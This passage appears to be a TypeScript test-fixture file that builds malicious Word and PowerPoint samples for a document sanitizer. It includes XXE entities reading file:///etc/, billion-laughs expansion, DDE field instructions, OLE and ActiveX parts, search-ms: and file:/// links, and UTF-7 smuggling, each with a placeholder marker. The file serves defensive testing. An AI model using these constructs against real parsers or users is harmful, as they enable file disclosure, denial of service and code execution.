    timing(`<p:cmd type="verb" cmd="${MARKER}"><p:cBhvr><p:cTn id="2"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd>`),
  ),
  slide(
    'sound of a transition',
    'multimedia',
    '',
    withPart(SLIDE, `${R}audio`, 'ppt/media/a.wav', 'audio/wav', blob),
    '<p:transition><p:fade/><p:sndAc><p:stSnd><p:snd r:embed="rIdI"/></p:stSnd></p:sndAc></p:transition>',
  ),
  slide(
    'linked video',
    'multimedia',
    `<p:pic><p:nvPicPr><p:cNvPr id="3" name="v"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="rIdE"/></p:nvPr></p:nvPicPr><p:blipFill/><p:spPr/></p:pic>`,
    { rels: [external(SLIDE, 'video')] },
  ),
  slide(
    'OLE object',
    'ole-object',
    `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="3" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj progId="${MARKER}" r:id="rIdI"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>`,
    oleFile(SLIDE, 'ppt'),
  ),
  slide(
    'control',
    'activex',
    '',
    withPart(SLIDE, `${R}control`, 'ppt/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml', `<x>${MARKER}</x>`),
  ),
  slide('tags', 'custom-xml', '', withPart(SLIDE, `${R}tags`, 'ppt/tags/tag1.xml', slideType('tags'), `<x>${MARKER}</x>`)),
  slide(
    'web publishing',
    'external-reference',
    '',
    withPart(
      'ppt/presentation.xml',
      `${R}presProps`,
      'ppt/presProps.xml',
      slideType('presProps'),
      `<p:presentationPr xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:htmlPubPr title="${MARKER}"/></p:presentationPr>`,
    ),
  ),
  slide('slide update address', 'external-relationship', '', { rels: [external(SLIDE, 'slideUpdateUrl')] }),
  slide(
    'link in speaker notes',
    'unsafe-link',
    '',
    join(
      withPart(
        SLIDE,
        `${R}notesSlide`,
        'ppt/notesSlides/notesSlide1.xml',
        slideType('notesSlide'),
        `<p:notes xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:cSld><p:spTree>${slideShape('', click('r:id="rIdE"'))}</p:spTree></p:cSld></p:notes>`,
      ),
      { rels: [external('ppt/notesSlides/notesSlide1.xml', 'hyperlink', `search-ms:${MARKER}`)] },
    ),
  ),
  slide(
    'link in SmartArt',
    'unsafe-link',
    '',
    join(
      withPart(
        SLIDE,
        `${R}diagramData`,
        'ppt/diagrams/data1.xml',
        officeType('drawingml.diagramData+xml'),
        `<dgm:dataModel xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><dgm:ptLst><dgm:pt modelId="1"><dgm:t><a:bodyPr/><a:p><a:r><a:rPr><a:hlinkClick r:id="rIdE"/></a:rPr><a:t>${KEPT}</a:t></a:r></a:p></dgm:t></dgm:pt></dgm:ptLst></dgm:dataModel>`,
      ),
      { rels: [external('ppt/diagrams/data1.xml', 'hyperlink', `file:///${MARKER}`)] },
    ),
  ),
]

const refusedWord = (name: string, refused: RefusalCode, content: string): OfficeSample => ({
  name,
  format: 'docx',
  refused,
  bytes: docx('', {
    parts: [{ path: 'word/header1.xml', type: wordType('header'), content }],
    rels: [internal(DOC, `${R}header`, 'header1.xml')],
  }),
})
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

/** Attacks on the XML reader inside a part that is otherwise welcome. */
const xmlSamples: readonly OfficeSample[] = [
  { name: 'external entity in the main part', format: 'docx', refused: 'malformed', bytes: docx('&evil;') },
  refusedWord('nesting past the bound', 'limit-depth', `<w:hdr ${W}>${'<w:p>'.repeat(300)}${'</w:p>'.repeat(300)}</w:hdr>`),
  refusedWord(
    'more attributes than the bound',
    'limit-entries',
    `<w:hdr ${W}><w:p ${Array.from({ length: 300 }, (_, index) => `a${index}=""`).join(' ')}/></w:hdr>`,
  ),
  refusedWord('attribute twice', 'malformed', `<w:hdr ${W}><w:p w:a="1" w:a="2"/></w:hdr>`),
  refusedWord('unbound prefix', 'malformed', `<w:hdr ${W}><evil:p/></w:hdr>`),
  refusedWord('second root', 'malformed', `<w:hdr ${W}/><w:hdr ${W}/>`),
  refusedWord('crossed tags', 'malformed', `<w:hdr ${W}><w:p><w:r></w:p></w:r></w:hdr>`),
  refusedWord('unknown entity', 'malformed', `<w:hdr ${W}><w:p>&nbsp;</w:p></w:hdr>`),
  refusedWord('NUL by reference', 'malformed', `<w:hdr ${W}><w:p>&#0;</w:p></w:hdr>`),
  refusedWord('doctype after the root', 'malformed', `<w:hdr ${W}/><!DOCTYPE x>`),
]

/** Parts that are not XML as we read it: a doctype at the start, another encoding. They are dropped with what refers to them. */
const dropped = (name: string, content: string | Uint8Array): OfficeSample =>
  word(name, 'unknown', '', {
    parts: [{ path: 'word/header1.xml', type: wordType('header'), content }],
    rels: [internal(DOC, `${R}header`, 'header1.xml')],
  })
const twice = refusedWord(
  'one attribute in Strict and Transitional names',
  'malformed',
  `<w:hdr ${W} xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:p><w:fldSimple w:instr="PAGE" s:instr="DDE ${MARKER}"/></w:p></w:hdr>`,
)
const droppedSamples: readonly OfficeSample[] = [
  dropped('external entity (XXE)', `<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/${MARKER}">]><w:hdr ${W}><w:p>&e;</w:p></w:hdr>`),
  dropped('billion laughs', `<!DOCTYPE w [<!ENTITY a "${MARKER}"><!ENTITY b "&a;&a;">]><w:hdr ${W}>&b;</w:hdr>`),
  dropped('declared as UTF-7', `<?xml version="1.0" encoding="UTF-7"?><w:hdr ${W}><w:p>+ADw-${MARKER}</w:p></w:hdr>`),
  dropped('UTF-16 without its mark', Buffer.from(`<w:hdr ${W}><w:p>${MARKER}</w:p></w:hdr>`, 'utf16le')),
  dropped('declared as UTF-16, is UTF-8', `<?xml version="1.0" encoding="UTF-16"?><w:hdr ${W}><w:p>${MARKER}</w:p></w:hdr>`),
]

export const officeSamples: readonly OfficeSample[] = [
  ...wordSamples,
  ...sheetSamples,
  ...slideSamples,
  ...xmlSamples,
  ...droppedSamples,
  twice,
]
